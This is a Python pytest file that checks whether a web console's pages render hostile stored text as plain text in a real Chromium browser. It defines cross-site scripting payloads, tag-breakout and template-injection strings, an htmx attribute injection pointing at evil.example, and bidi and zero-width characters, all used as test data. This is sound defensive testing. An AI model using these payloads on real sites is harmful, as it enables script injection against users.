"""Hostile text in a real browser: whatever others wrote, pages show it as text, keep their shape, and stay small."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from benchmarks.console_pages import PAGES, Shown
from myria.log.event import parse_event
from myria.log.limits import Limits
from myria.memory import Memory
from myria.notes.drafting import Draft
from myria.settings import AuthSettings, ConsoleSettings, IngestSettings, ReviewSettings, Settings
from tests.clients.conftest import Outside
from tests.clients.test_console import chromium
from tests.console.conftest import Browser
from tests.server.wire import Served
from tests.support import builds
from tests.support.counts import SOAK, share
from tests.support.keys import access_store, make_key
from tests.support.patience import PATIENCE_S
from tests.support.postgres import Database
from tests.support.skips import not_here

__all__ = ["chromium"]

PROGRAM = (Path(__file__).parent / "node" / "console_hostile.mjs").read_text()
MOST_BYTES = 150_000
COMPARED = 1 if SOAK else 3
"""Every how many pages are opened with harmless words as well, to compare what they are made of."""
MIB = 1024 * 1024
LIMITS = Limits(payload_bytes=2 * MIB)
OTHER, HELD = "other", "decision"

MARKUP = (
    "<script>window.hit = 1</script><img src=x onerror='window.hit=1'><svg/onload=hit=1><a href=javascript:hit=1>x</a>"
)
BREAKS_OUT = (
    "\"'></bdi></li></ul></main></title></textarea></pre></script><iframe srcdoc=x></iframe><!-- ]]> {{ 7*7 }} {% x %}"
)
HTMX = '" hx-get="https://evil.example/" hx-trigger="load" hx-on:load="hit=1" data-hx-get="/mcp" style="top:0" x="'
TURNED = "\u202e\u2066live evil\u2069\u200b\u200c\u200d\ufeff\u2028\u00ad e\u0301\u0489\u0489 שלום مرحبا \ufdfd 𒐫"
UNBROKEN = "W" * 4_000
ESCAPED = "\\u0000 \\x00 %00 &lt;script&gt; &#60;b&#62; \\ud800 \x1b[31m\x07\x08"
TEXTS = (MARKUP, BREAKS_OUT, HTMX, TURNED, UNBROKEN, ESCAPED)
NAMES = (
    "<script>hit=1</script>",
    '"><img src=x onerror=hit=1>',
    "' hx-get='//evil.example' x='",
    "{{7*7}} & &lt;b&gt; ../..//%2e%2e?as=*#x",
    "W" * 200,
    "שלום‎"[:4] + " مرحبا",
)
"""Names may not hold marks of direction or zero width."""


@pytest.fixture
def settings() -> Settings:
    """Callers need a key, and payloads may be larger than usual."""
    return Settings(
        console=ConsoleSettings(enabled=True),
        auth=AuthSettings(mode="keys"),
        ingest=IngestSettings(payload_bytes=2 * MIB),
        review=ReviewSettings(kinds=(HELD,)),
    )


def as_it_is(text: str) -> str:
    """Return a text as it is."""
    return text


def tamed(text: str) -> str:
    """Return a text of the same length that no reader could take for anything but words."""
    return "".join(
        character if character.isalnum() or character == " " else "x"
        for character in text
        if unicodedata.category(character) != "Cf"
    )


def _deep(say: Callable[[str], str], levels: int) -> Any:
    value: Any = say(MARKUP)
    for level in range(levels):
        value = {say(f"<b onclick=hit=1>{level}"): value} if level % 2 else [value]
    return value


async def _fill(memory: Memory, database: Database, tenant: str, say: Callable[[str], str]) -> Shown:
    """Keep the same things in both tenants, hostile in one and tame in the other; return what pages name."""
    names = [say(name) for name in NAMES]
    who = names[0]
    payloads: list[Any] = [
        {"text": f"The kiln opens: {say(text)}", "speaker": say(name)} for text in TEXTS for name in NAMES[:2]
    ]
    called = {"name": say(MARKUP), "arguments": json.dumps({say(HTMX): say(BREAKS_OUT), "more": say(UNBROKEN)})}
    payloads += [
        {"tool_calls": [{"id": say(HTMX), "function": called}] * 9, "content": say(MARKUP)},
        {"content": [{"type": "tool_result", "tool_use_id": say(HTMX), "content": say(text)} for text in TEXTS]},
    ]
    payloads += [
        {"text": say(MARKUP) * (MIB // len(MARKUP)), "speaker": say(UNBROKEN)},
        {"text": say("W" * MIB)},
        {"text": {say(HTMX): say(TURNED)}, "speaker": [say(MARKUP)]},
        {say(MARKUP): say(BREAKS_OUT), say(UNBROKEN): 7, "nothing": None},
        {"deep": _deep(say, 28)},
        {},
    ]
    events: list[dict[str, Any]] = [
        {
            "timestamp": f"2026-03-19T20:{number:02}:00Z",
            "channel": say(BREAKS_OUT)[:200],
            "context_id": say(MARKUP)[:200],
            "type": say(HTMX)[:200],
            "source_event_key": say(f"{MARKUP}{number}")[:512],
            "participants": names,
            "payload": payload,
            "topic_hints": [{"hint": say(BREAKS_OUT)[:200], "confidence": 0.9}],
        }
        for number, payload in enumerate(payloads)
    ]
    # As many people as one event may name, again and again: ten thousand in a soak run.
    for number in range(share(159, least=12)):
        crowd = [say(f"<i>{number}</i>{place:>170}") for place in range(63)]
        events.append(
            {
                "timestamp": f"2026-03-20T{number // 60:02}:{number % 60:02}:00Z",
                "channel": "crowd",
                "participants": [who, *crowd],
                "payload": {"text": say(f"{MARKUP} number {number}")},
            }
        )
    stored = []
    for start in range(0, len(events), 40):
        batch = [parse_event(event, LIMITS) for event in events[start : start + 40]]
        stored += await memory.log.append_events(tenant, batch)
    before = (await builds.build(database, tenant=tenant)).snapshot_id or ""
    async with memory.database.read(tenant) as connection:  # it stays a topic after the rollback to this snapshot
        topic = await connection.fetchval(
            "SELECT topic_id FROM myria.topics WHERE tenant_id = $1 ORDER BY topic_id LIMIT 1", tenant
        )
    for number, text in enumerate(TEXTS * 3):
        draft = Draft(
            content=f"{number} {say(text)}"[:10_000],
            topic=say(BREAKS_OUT)[:100],
            keywords=(say(MARKUP)[:40], say(HTMX)[:40]),
            source=say(MARKUP)[:100],
        )
        kept = await memory.notes.remember(tenant, (who,), draft, contract="memento", speaker=say(BREAKS_OUT)[:100])
        await memory.notes.remember(tenant, (who,), replace(draft, kind=HELD), contract="memento", speaker=who)
    last = await builds.build(database, tenant=tenant)
    return Shown(
        who=who,
        archivist=who,
        question="when does the kiln open?",
        event=stored[0].event_id,
        long_event=stored[14].event_id,
        topic=topic,
        note=kept.note_id,
        before=before,
        after=last.snapshot_id or "",
        build=last.build_id,
    )


async def _key(database: Database, tenant: str, say: Callable[[str], str]) -> str:
    """Return a key that may see and do everything in a tenant, and has a name like the others'."""
    roles, faces = ("read", "append", "admin", "erase"), ("core", "agent", "admin")
    async with access_store(database, tenant) as store:
        return await make_key(store, may_ask=["*"], tenant=tenant, name=say(MARKUP)[:100], roles=roles, faces=faces)


@pytest.mark.soak
async def test_hostile_text_is_shown_as_text_on_every_page(
    outside: Outside, chromium: str, served: Served, memory: Memory, database: Database
) -> None:
    """Pages with markup, marks of direction, endless words, a megabyte in one line and very many people.

    Each breaks no rule of its policy, runs nothing, is not wider than the window, leads nowhere else, and is small.
    Every third one, in a soak run each, is made of the same elements as the page with harmless words.
    """
    tours = []
    for tenant, say in (("default", as_it_is), (OTHER, tamed)):
        key = await _key(database, tenant, say)
        browser = Browser(httpx.AsyncClient(base_url=served.client.base_url, timeout=PATIENCE_S))
        await browser.sign_in(key)
        shown = await _fill(memory, database, tenant, say)
        rollback = await browser.get("/console/changes/rollback", snapshot=shown.before)
        await browser.submit(rollback, "/console/changes/rollback", {"reason": say(MARKUP)[:500]})
        [cookie] = browser.client.cookies.items()
        paths = [shown.address(page) for page in PAGES.values()]
        visited = paths if tenant == "default" else paths[::COMPARED]
        tours.append({"cookie": cookie, "paths": visited, "question": shown.question})
        await browser.client.aclose()
    wanted = {"url": str(served.client.base_url).rstrip("/"), "tours": tours, "widths": [360, 1280]}
    status, out, err = await outside.node("--input-type=module", "-", chromium, json.dumps(wanted), text=PROGRAM)
    if status and "No usable sandbox" in err:
        not_here("Chromium finds no sandbox for this user")
    assert status == 0, err
    seen = [json.loads(line) for line in out.splitlines()]
    hostile = [page for page in seen if page["tour"] == 0]
    harmless = [page for page in seen if page["tour"] == 1]
    assert len(hostile) == len(PAGES) + 1
    for page in hostile[:-1]:
        assert page["status"] == (404 if page["path"].endswith("nowhere") else 200), page
        assert page["bytes"] <= MOST_BYTES, page
    for page in hostile:
        assert not page["violations"], page
        assert "hit" not in page, page
        assert not page["outside"], page
        assert not page["wide"], page
        complaints = [text for text in page["complaints"] if "404" not in text or "nowhere" not in page["path"]]
        assert not complaints, page
    for page, same in zip([*hostile[:-1:COMPARED], hostile[-1]], harmless, strict=True):
        injected = set(page["names"]) - set(same["names"])
        assert not injected, (page["path"], injected)
